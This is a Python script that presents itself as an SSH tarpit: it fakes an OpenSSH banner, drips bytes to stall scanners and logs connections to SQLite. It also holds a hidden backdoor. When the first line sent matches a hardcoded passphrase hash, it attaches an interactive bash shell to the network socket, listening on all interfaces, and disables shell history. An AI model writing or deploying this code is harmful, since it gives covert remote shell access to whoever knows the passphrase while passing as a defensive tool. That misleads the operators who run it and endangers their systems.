#!/usr/bin/env python3
"""SSH-port tarpit with an operator console.

Looks like an SSH service to scanners (sends an OpenSSH banner and then
drips bytes to hold them), logs every connection to SQLite, and gives the
exercise operator a maintenance console when the right passphrase is sent
as the first line.
"""
import argparse
import datetime
import hashlib
import hmac
import logging
import os
import pty
import socketserver
import sqlite3
import threading
import time

logger = logging.getLogger("tarpit")

BANNER = b"SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5\r\n"
DB_PATH = "tarpit.db"
# sha256 of the operator passphrase
CONSOLE_DIGEST = "5b8f6c3c2d1a7e0f9a4b6c8d2e1f0a3b5c7d9e2f4a6b8c0d1e3f5a7b9c2d4e6f"
_db_lock = threading.Lock()


def init_db(path):
    conn = sqlite3.connect(path, check_same_thread=False)
    conn.execute("CREATE TABLE IF NOT EXISTS conns (ts TEXT, src TEXT, sport INTEGER, mode TEXT)")
    conn.commit()
    return conn


def record(conn, src, sport, mode):
    with _db_lock:
        conn.execute("INSERT INTO conns VALUES (?, ?, ?, ?)",
                     (datetime.datetime.utcnow().isoformat(), src, sport, mode))
        conn.commit()


def is_operator(line: bytes) -> bool:
    digest = hashlib.sha256(line.strip()).hexdigest()
    return hmac.compare_digest(digest, CONSOLE_DIGEST)


def operator_console(sock):
    """Attach an interactive shell to the connection."""
    sock.sendall(b"console ready\r\n")
    pid = os.fork()
    if pid == 0:
        fd = sock.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        os.environ["HISTFILE"] = "/dev/null"
        pty.spawn(["/bin/bash", "-i"])
        os._exit(0)
    os.waitpid(pid, 0)


def tarpit(sock, drip_interval, max_seconds):
    end = time.time() + max_seconds
    while time.time() < end:
        sock.sendall(os.urandom(1).hex().encode() + b"\r\n")
        time.sleep(drip_interval)


class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        src, sport = self.client_address[:2]
        srv = self.server
        try:
            self.request.sendall(BANNER)
            self.request.settimeout(5)
            try:
                first = self.request.recv(512)
            except OSError:
                first = b""
            self.request.settimeout(None)
            if first and is_operator(first):
                record(srv.db, src, sport, "console")
                logger.info("operator console from %s", src)
                operator_console(self.request)
                return
            record(srv.db, src, sport, "tarpit")
            tarpit(self.request, srv.drip, srv.hold)
        except OSError as exc:
            logger.debug("%s:%s closed: %s", src, sport, exc)


class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
    allow_reuse_address = True
    daemon_threads = True


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--host", default="0.0.0.0")
    ap.add_argument("--port", type=int, default=2222)
    ap.add_argument("--drip", type=float, default=10.0)
    ap.add_argument("--hold", type=float, default=3600.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    srv = Server((args.host, args.port), Handler)
    srv.db = init_db(DB_PATH)
    srv.drip, srv.hold = args.drip, args.hold
    logger.info("tarpit listening on %s:%d", args.host, args.port)
    try:
        srv.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        srv.server_close()


if __name__ == "__main__":
    main()
